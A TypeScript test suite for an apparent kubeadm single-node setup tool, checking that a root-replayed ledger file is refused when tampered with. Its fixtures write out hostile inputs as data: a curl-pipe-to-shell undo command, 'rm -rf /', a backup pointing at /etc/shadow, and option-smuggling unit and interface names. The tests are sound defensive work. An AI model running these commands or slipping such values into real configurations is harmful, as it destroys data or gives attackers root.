// The host's ledger is replayed as root, so it is trusted only when root owns it and its
// directory, no one else can write either, and its record passes the schema: every kind one
// the action records, every field typed, every path under the places the action writes to.
// Each attack below is planted as a file and must be refused with an error that names the
// file and says what to do, before anything runs as root.
import assert from 'node:assert/strict'
import { chmod, mkdir, mkdtemp, readFile, stat, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { describe, it } from 'node:test'
import { CNIS } from '../src/cnis/index.js'
import type { CommandEnv } from '../src/commands/env.js'
import { plan } from '../src/commands/plan.js'
import { up } from '../src/commands/up.js'
import { createRun, type Run } from '../src/host/exec.js'
import type { Change } from '../src/host/ledger.js'
import { pathsUnder, type Paths } from '../src/host/paths.js'
import { hostLedgerStore, LedgerTrustError, type StatFn } from '../src/io/host-ledger.js'
import { headOf, type LedgerRecord } from '../src/io/ledger-store.js'
import { RUNTIME_NAMES } from '../src/runtimes/index.js'
import { config, onlyProbes } from './helpers/facts.js'
import { linesReporter } from './helpers/reporter.js'

// an add-on name the registry may not have yet: the check is against the names it is handed
const known = { runtimes: RUNTIME_NAMES, cnis: Object.keys(CNIS), addons: ['load-balancer'] }

async function host(): Promise<{ root: string; paths: Paths; home: string; ran: string[]; run: Run }> {
  const root = await mkdtemp(join(tmpdir(), 'ksn-ledger-'))
  const ran: string[] = []
  // every command the code under test runs, as root or not; none runs for real
  const run: Run = async (argv, opts) => {
    ran.push(`${opts?.privileged ? 'sudo ' : ''}${argv.join(' ')}`)
    return { exitCode: 0, stdout: `output of ${argv[0]}`, stderr: '' }
  }
  return { root, paths: pathsUnder(root), home: join(root, 'home/runner'), ran, run }
}

const legit = (paths: Paths, home: string, changes: unknown[] = []): LedgerRecord => ({
  changes: [
    { kind: 'dir', path: paths.kubeletDir },
    { kind: 'kubeadm-init', kubeadm: join(paths.binDir, 'kubeadm'), config: join(paths.stateDir, 'kubeadm.yaml'), criSocket: 'unix:///run/containerd/containerd.sock', certificatesDir: join(paths.kubernetesDir, 'pki') },
    ...(changes as Change[])
  ],
  completed: ['host.kernel', 'init.kubeadm'],
  cleanup: false,
  kubeconfig: join(home, '.kube/config'),
  paths,
  runtime: 'containerd',
  cni: 'flannel'
})

/** A ledger file as a job could have left it: root's (this test runs as root), with the given modes. */
async function plant(file: string, content: string, mode = 0o600, dirMode = 0o700): Promise<void> {
  await mkdir(dirname(file), { recursive: true })
  await chmod(dirname(file), dirMode)
  await writeFile(file, content)
  await chmod(file, mode)
}

const root = process.getuid?.() === 0 ? false : 'needs root: the ledger and its directory are root\'s'

describe("the host's ledger", { skip: root }, () => {
  it('is written root-owned, 0600 in a 0700 directory, change by change, and read back as written', async () => {
    const h = await host()
    const store = hostLedgerStore({ file: h.paths.ledgerFile, run: createRun({ debug: () => {} }), paths: h.paths, home: h.home, known, scratch: join(h.root, 'scratch') })
    const rec = { ...legit(h.paths, h.home), timings: [{ id: 'host.swapoff' as const, phase: 'host' as const, start: 0.1, end: 0.4 }] }
    // the post step's own choice stays in the Actions state, never in the host's copy
    await store.saveHead(headOf({ ...rec, diagnosticsArtifact: 'always', changes: [] }))
    await Promise.all(rec.changes.map((c, i) => store.saveChange(i, c)))
    const f = await stat(h.paths.ledgerFile)
    const d = await stat(dirname(h.paths.ledgerFile))
    assert.deepEqual([f.uid, f.mode & 0o777, d.uid, d.mode & 0o777], [0, 0o600, 0, 0o700])
    assert.deepEqual(await store.load(), rec)
    await store.clear()
    await assert.rejects(stat(dirname(h.paths.ledgerFile)), /ENOENT/, 'a cleared ledger leaves no directory behind')
  })

  // what a job on a self-hosted runner could leave for the next run's on-existing: reset or `down`
  const attacks: Array<[string, (p: Paths, home: string) => unknown, RegExp]> = [
    ['a kind that carries commands', (p, home) => legit(p, home, [{ kind: 'command', what: 'x', undo: [['sh', '-c', 'curl https://example.invalid | sh']] }]), /change 2 has kind "command", which is not one the action records/],
    ['rm -rf /etc', (p, home) => legit(p, home, [{ kind: 'dir', path: '/etc' }]), /change 2 \(dir\): field 'path' names "\/etc", which is not a normal absolute path under the places the action writes to/],
    ['a path that climbs out with ..', (p, home) => legit(p, home, [{ kind: 'dir', path: `${p.kubernetesDir}/../../../../../etc` }]), /field 'path' names ".*\/\.\.\/etc", which is not a normal absolute path/],
    ['a backup that is not the action\'s', (p, home) => legit(p, home, [{ kind: 'file', path: p.containerdConfig, backup: '/etc/shadow' }]), /field 'backup' names "\/etc\/shadow"/],
    ['kernel.core_pattern', (p, home) => legit(p, home, [{ kind: 'sysctl', values: { 'kernel.core_pattern': '|/tmp/x' } }]), /change 2 \(sysctl\): field 'values' is .*core_pattern.*; accepted: the keys the action sets/],
    ["docker rm of a container that is not the action's", (p, home) => legit(p, home, [{ kind: 'container', name: 'postgres' }]), /change 2 \(container\): field 'name' is "postgres"; accepted: a container name the action gives/],
    ['an option smuggled as a container name', (p, home) => legit(p, home, [{ kind: 'container', name: '--all' }]), /change 2 \(container\): field 'name' is "--all"/],
    ['ip link delete lo', (p, home) => legit(p, home, [{ kind: 'interface', name: 'lo' }]), /change 2 \(interface\): field 'name' is "lo"/],
    ['an option smuggled as a unit', (p, home) => legit(p, home, [{ kind: 'unit-restarted', unit: 'x --now; reboot', wasActive: true }]), /field 'unit' is "x --now; reboot"; accepted: a systemd unit name/],
    // systemctl restart -Hroot@host would run ssh as root; every character of it is one a unit name has
    ['a unit that is an option to systemctl', (p, home) => legit(p, home, [{ kind: 'unit-restarted', unit: '-Hroot@host', wasActive: true }]), /change 2 \(unit-restarted\): field 'unit' is "-Hroot@host"; accepted: a systemd unit name/],
    ['an interface that is an option to ip', (p, home) => legit(p, home, [{ kind: 'interface', name: '-batch' }]), /change 2 \(interface\): field 'name' is "-batch"/],
    // root copies a backup over the host file at undo: one the user wrote in ~/.kube would become a unit of root's
    ['an original kept in a user-writable place', (p, home) => legit(p, home, [{ kind: 'file', path: join(p.systemdDir, 'evil.service'), backup: join(home, '.kube/evil') }]), /change 2 \(file\): field 'backup' names ".*\/\.kube\/evil", which is not in the action's backup directory .*\/backup/],
    ['a reload with a file kept in a user-writable place', (p, home) => legit(p, home, [{ kind: 'reload-with', unit: 'docker', path: p.dockerDaemonJson, kept: join(home, '.docker/daemon.json') }]), /change 2 \(reload-with\): field 'kept' names .*, which is not in the action's backup directory/],
    ['a field the kind does not have', (p, home) => legit(p, home, [{ kind: 'file', path: p.crictlConfig, undo: [['rm', '-rf', '/']] }]), /change 2 \(file\): unknown field 'undo'/],
    ['kubeadm reset from another binary', (p, home) => ({ ...legit(p, home), changes: [{ kind: 'kubeadm-init', kubeadm: '/tmp/kubeadm', config: join(p.stateDir, 'kubeadm.yaml'), criSocket: 'unix:///run/containerd/containerd.sock', certificatesDir: join(p.kubernetesDir, 'pki') }] }), /field 'kubeadm' names "\/tmp\/kubeadm"/],
    ['a kubeconfig pointing anywhere', (p, home) => ({ ...legit(p, home), kubeconfig: '/tmp/evil.conf' }), /field 'kubeconfig' names "\/tmp\/evil\.conf"/],
    ["another host's layout (a bin directory of its own)", (p, home) => ({ ...legit(p, home), paths: { ...p, binDir: '/tmp/evil/bin' } }), /field 'paths' is not this host's layout/],
    ['an add-on the action does not have', (p, home) => ({ ...legit(p, home), addons: ['load-balancer', '../../bin/sh'] }), /field 'addons' is .*; accepted: a list of load-balancer/],
    ['timings that are not a step\'s', (p, home) => ({ ...legit(p, home), timings: [{ id: 'init.kubeadm', phase: 'init', start: 0, end: 1, run: ['sh'] }] }), /field 'timings' is not a list of \{id, phase, start, end\}/],
    ['a diagnostics-artifact choice (only the job\'s own post step reads it)', (p, home) => ({ ...legit(p, home), diagnosticsArtifact: 'always' }), /has field the action never writes: diagnosticsArtifact/],
    ['a field the record does not have', (p, home) => ({ ...legit(p, home), cache: { exportArgv: ['sh', '-c', 'id'] } }), /has field the action never writes: cache/]
  ]
  for (const [name, make, why] of attacks) {
    it(`refuses ${name}, naming the file and what to do, and runs nothing`, async () => {
      const h = await host()
      await plant(h.paths.ledgerFile, JSON.stringify(make(h.paths, h.home)))
      const store = hostLedgerStore({ file: h.paths.ledgerFile, run: h.run, paths: h.paths, home: h.home, known })
      const err = await store.load().then(
        () => assert.fail('accepted'),
        (e: Error) => e
      )
      assert.ok(err instanceof LedgerTrustError, err.message)
      assert.match(err.message, why)
      assert.ok(err.message.startsWith(`The ledger ${h.paths.ledgerFile} `), err.message)
      assert.match(err.message, /Nothing in it was run\. Inspect it as root \(sudo cat .*\); if it is not what a run of this action on this host left, remove it as root \(sudo rm .*ledger\.json\), then run again\./)
      assert.deepEqual(h.ran, [])
    })
  }

  it('refuses a path that a symbolic link takes out of the places the action writes to', async () => {
    const h = await host()
    await mkdir(h.paths.kubernetesDir, { recursive: true })
    await symlink('/etc', join(h.paths.kubernetesDir, 'escape'))
    await plant(h.paths.ledgerFile, JSON.stringify(legit(h.paths, h.home, [{ kind: 'dir', path: join(h.paths.kubernetesDir, 'escape/ssl') }])))
    const store = hostLedgerStore({ file: h.paths.ledgerFile, run: h.run, paths: h.paths, home: h.home, known })
    await assert.rejects(store.load(), /names .*escape\/ssl \(through .*\/etc\/kubernetes\/escape -> \/etc\), which a symbolic link takes outside the places the action writes to/)
    assert.deepEqual(h.ran, [])
  })

  it('refuses a file or directory others can write, or that is not root\'s', async () => {
    const cases: Array<[string, { mode?: number; dirMode?: number; stat?: (real: StatFn, dir: string) => StatFn }, RegExp]> = [
      ['a group-writable file', { mode: 0o664 }, /can be written by group or others \(mode 664\)/],
      ['a world-writable directory', { dirMode: 0o777 }, /is in .*, which group or others can write \(mode 777\)/],
      // this test runs as root, so another owner is what the stat says, not what chown made
      ['a file of the runner user\'s', { stat: (real) => async (p) => ((s) => (s && p.endsWith('ledger.json') ? { ...s, uid: 1001 } : s))(await real(p)) }, /is owned by uid 1001, not root/],
      ['a directory of the runner user\'s', { stat: (real, dir) => async (p) => ((s) => (s && p === dir ? { ...s, uid: 1001 } : s))(await real(p)) }, /is in .*, which is owned by uid 1001, not root/],
      ['a symbolic link in place of the file', { stat: (real) => async (p) => ((s) => (s && p.endsWith('ledger.json') ? { ...s, type: 'link' as const } : s))(await real(p)) }, /is not a regular file \(link\)/]
    ]
    const { hostStat } = await import('../src/io/host-ledger.js')
    for (const [name, c, why] of cases) {
      const h = await host()
      await plant(h.paths.ledgerFile, JSON.stringify(legit(h.paths, h.home)), c.mode, c.dirMode)
      const stat = c.stat?.(hostStat(h.run), dirname(h.paths.ledgerFile))
      const store = hostLedgerStore({ file: h.paths.ledgerFile, run: h.run, paths: h.paths, home: h.home, known, stat })
      await assert.rejects(store.load(), why, name)
      assert.deepEqual(h.ran, [], name)
    }
  })
})

function recorder(h: Awaited<ReturnType<typeof host>>, stat?: StatFn): { env: CommandEnv; lines: string[] } {
  const lines: string[] = []
  const io = linesReporter(lines)
  const hostLedger = hostLedgerStore({ file: h.paths.ledgerFile, run: h.run, paths: h.paths, home: h.home, known, stat })
  const env: CommandEnv = { paths: h.paths, run: h.run, services: { act: async () => {}, status: async () => ({ enabled: 'enabled', active: true }), disable: async () => {}, logs: async () => '' }, io, store: hostLedger, hostLedger, hostLedgerFile: h.paths.ledgerFile, where: 'terminal' }
  return { env, lines }
}


describe('a run over a ledger that cannot be trusted', { skip: root }, () => {
  const saved = { ...process.env }
  for (const onExisting of ['fail', 'reset', 'reuse']) {
    it(`stops with on-existing: ${onExisting} over a damaged ledger, naming it, changing nothing`, async () => {
      const h = await host()
      process.env.HOME = h.home
      try {
        const damaged = JSON.stringify(legit(h.paths, h.home)).slice(0, 200)
        await plant(h.paths.ledgerFile, damaged)
        const r = recorder(h)
        await assert.rejects(
          up(config({ 'kubernetes-version': 'v1.34.2', 'on-existing': onExisting }), r.env),
          (err: Error) => {
            assert.match(err.message, /This host cannot run the cluster; nothing was changed:\n {2}- The ledger .*ledger\.json is not JSON \(.*\): it is damaged\. Nothing in it was run\. .*sudo rm /)
            return true
          }
        )
        assert.deepEqual(onlyProbes(h.ran), [], 'only the read-only probes ran')
        assert.equal(await readFile(h.paths.ledgerFile, 'utf8'), damaged, 'the ledger is left for the user to inspect')
      } finally {
        process.env = { ...saved }
      }
    })
  }

  it("never replays a ledger in the old place (the user's home): says it was found, that it is ignored, and how to remove it", async () => {
    const h = await host()
    process.env.HOME = h.home
    delete process.env.XDG_STATE_HOME
    try {
      const old = join(h.home, '.local/state/kubeadm-single-node/ledger.json')
      await mkdir(dirname(old), { recursive: true })
      await writeFile(old, JSON.stringify({ ...legit(h.paths, h.home), changes: [{ kind: 'command', what: 'kubeadm init', undo: [['rm', '-rf', '/etc']] }, { kind: 'dir', path: '/etc' }] }))
      const r = recorder(h)
      await plan(config({ 'kubernetes-version': 'v1.34.2', 'on-existing': 'reset' }), r.env, undefined)
      assert.ok(r.lines.includes(`warning: Found ${old}, a ledger where earlier versions of this action kept it, in a user's home. It is ignored: a file that any job of that user can write is never replayed as root. Remove it (rm ${old}); what it records, if anything, was not undone.`), r.lines.join('\n'))
      assert.equal(r.lines.some((l) => /undo:/.test(l)), false, 'nothing of it is in the plan')
      assert.deepEqual(onlyProbes(h.ran), [])
    } finally {
      process.env = { ...saved }
    }
  })
})
